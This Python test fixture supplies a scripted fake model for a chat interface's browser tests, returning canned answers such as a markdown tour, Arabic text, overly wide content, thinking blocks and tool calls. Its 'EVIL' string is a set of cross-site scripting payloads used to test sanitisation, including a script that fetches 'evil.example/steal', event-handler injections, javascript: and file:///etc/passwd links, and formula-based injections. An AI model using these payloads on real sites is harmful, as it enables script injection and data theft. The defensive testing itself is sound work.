"""What the scripted model of the browser's tests says: the first word of the last message chooses it."""

from __future__ import annotations

import msgspec

from server.engine.events import AnswerForm, ChoiceEnd, Delta, Failure, Started
from server.ipc.messages import Generate
from server.ipc.prompts import ChatPrompt
from tests.server.scripted_answers import HERMES, call, cut
from tests.server.scripted_service import Step, finish

THINKING = AnswerForm(thoughts=("<think>", "</think>"))

MARKDOWN = r"""A short tour of what an answer can hold.

## Lists and emphasis

1. **Bold**, *italic*, ~~struck~~ and `inline code`.
2. A [link](https://example.org/page) and an address: https://example.org/other
   - a nested point
   - another one

| Type   | Bits | Loss |
|:-------|-----:|:----:|
| Q8_0   |  8.5 | tiny |
| Q4_K_M |  4.8 | small |

> A quotation, in two
> lines.

```python
def fibonacci(n: int) -> int:
    "Return the n-th number, counting from 0."
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
```

The mass of $m$ is bound by $E = mc^2$, and

$$
\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}
$$

It costs $5 or $6, which is no formula.
"""

RTL = r"""هذه إجابة قصيرة باللغة العربية، وفيها كلمة English واحدة.

1. النقطة الأولى
2. النقطة الثانية مع `code(1)` و $x^2$
   - نقطة فرعية

> اقتباس قصير

| العمود | القيمة |
|---|---:|
| أول | 1 |

```python
print("left to right")
```

An English paragraph, which begins on the left.
"""

WIDE = (
    "A_word_without_any_space_" * 12
    + "\n\nhttps://example.org/"
    + "a-long-path/" * 20
    + "\n\n```text\n"
    + "one very long line of code " * 20
    + "\n```\n\n"
    + "|"
    + "|".join(f" column {i} " for i in range(14))
    + "|\n|"
    + "---|" * 14
    + "\n"
    + "|"
    + "|".join(f" value of {i} " for i in range(14))
    + "|\n\n"
    + "$$\n"
    + " + ".join(f"x_{{{i}}}^{{2}}" for i in range(60))
    + "\n$$\n\n"
    + "".join("  " * level + f"- level {level} of a list\n" for level in range(9))
    + "\n"
    + "> " * 6
    + "a quotation of a quotation\n"
)

EVIL = r"""<script>window.pwned = 1; fetch("https://evil.example/steal")</script>
<img src="https://evil.example/pixel.png" onerror="window.pwned = 2">
<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<svg onload="window.pwned = 3"></svg>

![a pixel](https://evil.example/image.png) ![data](data:image/svg+xml;base64,PHN2Zy8+)

[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [file](file:///etc/passwd)
[scheme](//evil.example/) <javascript:window.pwned=6> [vb](vbscript:x) [ok](https://fine.example/)

```html
<script>window.pwned = 7</script>
```

`<img src=x onerror="window.pwned = 8">`

$\href{javascript:window.pwned=9}{x}$ $\includegraphics{https://evil.example/m.png}$ $\htmlStyle{background:url(https://evil.example/s)}{x}$

[ref]: javascript:window.pwned=10
[a reference][ref]

| <b onclick="window.pwned=11">t</b> | x |
|---|---|
| <img src="https://evil.example/t.png"> | &lt;script&gt;alert(1)&lt;/script&gt; |
"""


WRITTEN: dict[str, tuple[str, int, AnswerForm | None, float]] = {
    "markdown": (MARKDOWN, 4, None, 0.001),
    "rtl": (RTL, 4, None, 0.001),
    "wide": (WIDE, 9, None, 0.001),
    "evil": (EVIL, 5, None, 0.001),
    "think": (
        "<think>The user wants thoughts. Let me weigh both sides first.</think>After thinking: yes.",
        4,
        THINKING,
        0.01,
    ),
    "tools": (
        "Let me look." + call("get_weather", {"city": "Oslo", "unit": "celsius"}),
        4,
        HERMES,
        0.005,
    ),
    "info": ("Let me see." + call("get_info", {}), 4, HERMES, 0.001),
}
"""Answers that are always the same: text, characters per token, form, and seconds between tokens."""


def long_text(n_tokens: int) -> list[str]:
    """Return the tokens of a long answer: paragraphs, lists, code, tables and formulas in turn."""
    parts: list[str] = []
    number = 0
    while len(parts) < n_tokens:
        number += 1
        text = (
            f"### Part {number}\n\nThe quick brown fox jumps over the lazy dog, and **then** it rests by the "
            f"river for a while, thinking about $x_{{{number}}}^2$ and what comes next. "
            + "More words follow so that the paragraph has some length to it. " * 3
            + "\n\n- first point of the list\n- second point, with `code`\n- third point\n\n```python\n"
            + "".join(f"value_{i} = compute({i}, {number})  # a comment\n" for i in range(12))
            + "```\n\n| a | b |\n|---|---|\n"
            + "".join(f"| {i} | {i * number} |\n" for i in range(5))
            + "\n"
        )
        parts += cut(text, 4)
    return parts[:n_tokens]


def script(request: Generate) -> list[Step]:
    """Return the steps of the answer to a chat."""
    prompt = request.prompt
    assert isinstance(prompt, ChatPrompt)
    last = prompt.messages[-1]
    said = last["content"] if isinstance(last["content"], str) else ""
    if last["role"] == "tool":
        return _steps(request, cut(f"The tool said: {said}.", 3), None, 0.005)
    word = said.split()[0].lower() if said.split() else ""
    if word in WRITTEN:
        text, size, form, pause_s = WRITTEN[word]
        return _steps(request, cut(text, size), form, pause_s)
    numbers = [float(number) for number in said.split()[1:] if number.replace(".", "").isdigit()]
    match word:
        case "ponder":
            line = "A line of the thoughts, which goes on for some words.\n"
            text = f"<think>{line * int(numbers[0])}</think>Done."
            return _steps(request, cut(text, 6), THINKING, 0.002)
        case "slow":
            return _steps(request, [f"word{i} " for i in range(400)], None, 0.02)
        case "long":
            return _steps(request, long_text(int(numbers[0])), None, 1 / numbers[1])
        case "code":
            lines = [f"row_{i} = {i} * 2  # line\n" for i in range(int(numbers[0]))]
            return _steps(request, ["```python\n", *lines, "```\n"], None, 0.01)
        case "fail":
            steps = _steps(request, ["Half an answer"], None, 0.01)[:-2]
            return [*steps, Failure(id=request.id, kind="server_error", message="the worker has died")]
        case "system":
            first = prompt.messages[0]
            about = first["content"] if first["role"] == "system" else "nothing"
            text = f"System: {about}. Temperature: {request.params.temperature}."
            return _steps(request, cut(text, 3), None, 0.001)
        case "count":
            return _steps(request, [f"There are {len(prompt.messages)} messages."], None, 0.001)
    return _steps(request, cut(f"You said: {said[:2000]}", 3), None, 0.005)


def _steps(request: Generate, pieces: list[str], form: AnswerForm | None, pause_s: float) -> list[Step]:
    steps: list[Step] = [Started(id=request.id, prompt_tokens=24, cached_tokens=8, form=form)]
    for piece in pieces:
        steps += [pause_s, Delta(id=request.id, index=0, text=piece)]
    steps.append(ChoiceEnd(id=request.id, index=0, finish_reason="stop"))
    end = finish(request, len(pieces), prompt_tokens=24, cached=8)
    timings = msgspec.structs.replace(end.timings, predicted_ms=23.6 * len(pieces))
    steps.append(msgspec.structs.replace(end, timings=timings))
    return steps
